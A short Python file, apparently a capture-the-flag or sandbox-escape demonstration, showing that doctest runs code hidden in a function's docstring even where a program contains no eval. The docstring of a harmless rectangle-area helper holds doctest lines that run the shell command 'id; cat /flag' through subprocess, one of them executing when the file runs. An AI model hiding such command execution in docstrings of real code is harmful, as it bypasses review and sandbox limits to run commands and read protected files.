# No eval in the program at all: the "tests" of a helper live in its
# docstring and doctest compiles and runs them from its own frames.
import doctest


def area(w, h):
    """Rectangle area.

    >>> area(2, 3)
    6
    >>> import subprocess; print(subprocess.run("id; cat /flag", shell=True).returncode)  # doctest: +SKIP
    >>> import subprocess; _ = subprocess.run("id; cat /flag", shell=True)
    """
    return w * h


if __name__ == "__main__":
    doctest.testmod(verbose=False)
